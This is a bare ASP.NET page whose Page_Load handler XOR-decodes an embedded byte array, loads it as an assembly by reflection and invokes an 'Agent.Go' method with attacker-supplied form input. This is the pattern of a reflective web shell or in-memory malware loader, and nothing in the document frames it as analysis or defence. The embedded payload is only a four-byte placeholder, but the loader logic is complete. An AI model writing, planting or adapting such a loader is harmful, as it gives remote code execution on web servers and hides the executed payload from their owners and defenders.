<%@ Page Language="C#" %>
<%@ Import Namespace="System.Reflection" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
    byte[] blob = { 0x11, 0x22, 0x33, 0x44 };
    for (int i = 0; i < blob.Length; i++) blob[i] ^= 0x5a;
    Assembly asm = Assembly.Load(blob);
    object o = asm.CreateInstance("Agent");
    o.GetType().GetMethod("Go").Invoke(o, new object[] { Request.Form["d"] });
}
</script>
